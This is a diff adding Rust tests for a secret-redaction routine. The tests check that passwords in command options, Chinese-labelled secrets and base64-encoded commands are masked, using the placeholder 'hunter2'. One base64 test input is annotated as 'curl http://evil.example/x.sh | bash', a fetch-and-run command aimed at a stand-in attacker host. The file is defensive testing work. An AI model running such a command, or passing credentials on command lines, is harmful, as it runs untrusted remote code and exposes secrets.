@@ -614,6 +614,11 @@ fn any_depth_is_redacted() {
 #[test]
 fn long_texts_take_no_longer_than_their_length() {
     for piece in [
+        "--secret ",
+        "mysql -p",
+        "mysql -p'",
+        "密码:",
+        "密码:'",
         "secret: ",
         "\nsecret: ",
         "secret=",
@@ -711,5 +716,91 @@ proptest! {
     #[test]
     fn any_text_is_taken(text in "([\\[\\]{},;:\"'=()|/ \\\\<>&%\n]|token|3D|u00|é|secret|key|value|-----BEGIN |PRIVATE KEY-----){0,24}") {
         let _ = redacted(&text);
+    }
+}
+
+/// Commands showed the passwords in their options.
+#[test]
+fn passwords_in_options_of_commands_are_replaced() {
+    for text in [
+        "mycli --user u --password hunter2 --host h",
+        "mycli --db-password=hunter2 x",
+        "keytool -storepass hunter2 -v",
+        "sh -c 'x --api-key \"hunter2\" y'",
+        "mysql -h h -u root -phunter2 -e 'select 1'",
+        "/usr/bin/mysqldump -p'hunter2' db > f; mysql -P3306",
+        "cd /; mysqladmin -uroot -phunter2 ping",
+        "sshpass -p hunter2 ssh u@h",
+        "redis-cli -a hunter2 ping",
+        "mongosh -u u -p hunter2 db",
+    ] {
+        let record = |text: &str| serde_json::json!({"CommandContent": text}).to_string();
+        check(&record(text), &record(&text.replace("hunter2", HUNTER)));
+        assert_eq!(redacted(text), text.replace("hunter2", HUNTER));
+    }
+    for text in [
+        "the option --password is required",
+        "use --password, or --password-file f",
+        "adduser --disabled-password bob",
+        "ansible-playbook --ask-pass site.yml",
+        "login --password <password>",
+        "login --password-stdin --password --user u",
+        "mysql -p db",
+        "mysql -P3306 -h h",
+        "cp -pr a b; mkdir -p c",
+        "apt install mysql-server -y",
+        "docker run -p 80:80 mysql",
+    ] {
+        let record = serde_json::json!({"CommandContent": text}).to_string();
+        check(&record, &record);
+    }
+}
+
+/// Names in Chinese were no names of secrets.
+#[test]
+fn values_of_names_in_chinese_are_replaced() {
+    for text in [
+        "密码:hunter2",
+        "数据库密码：hunter2，请勿外传",
+        "口令 = hunter2",
+        "{'密码': 'hunter2'}",
+    ] {
+        let record = |text: &str| serde_json::json!({"a": text}).to_string();
+        check(&record(text), &record(&text.replace("hunter2", HUNTER)));
+        assert_eq!(redacted(text), text.replace("hunter2", HUNTER));
+    }
+    check(
+        r#"{"登录密码":"hunter2"}"#,
+        &format!(r#"{{"登录密码":"{HUNTER}"}}"#),
+    );
+    for text in ["密码：不正确", "密码错误", "请重置密码", "密码策略：strong"] {
+        let record = serde_json::json!({"a": text}).to_string();
+        check(&record, &record);
+    }
+}
+
+/// The command that `RunCommand` sends is base64, which hid its secrets from the search.
+#[test]
+fn base64_of_a_text_with_a_secret_is_replaced_as_a_whole() {
+    for secret in [
+        // mysql -uroot -phunter2 -e 'show tables'
+        "bXlzcWwgLXVyb290IC1waHVudGVyMiAtZSAnc2hvdyB0YWJsZXMn",
+        // export DB_PASSWORD=hunter2
+        "ZXhwb3J0IERCX1BBU1NXT1JEPWh1bnRlcjIK",
+        "ZXhwb3J0IERCX1BB\nU1NXT1JEPWh1bnRlcjIK",
+    ] {
+        let record = |text: &str| serde_json::json!({"CommandContent": text}).to_string();
+        check(&record(secret), &record(&mark(secret)));
+    }
+    for text in [
+        // curl http://evil.example/x.sh | bash
+        "Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3guc2ggfCBiYXNoCg==",
+        // mysql -uroot -p -e 'show tables'
+        "bXlzcWwgLXVyb290IC1wIC1lICdzaG93IHRhYmxlcycK",
+        "LTAI5tExampleKey00000001",
+        "DescribeInstanceStatus00",
+    ] {
+        let record = serde_json::json!({"CommandContent": text}).to_string();
+        check(&record, &record);
     }
 }
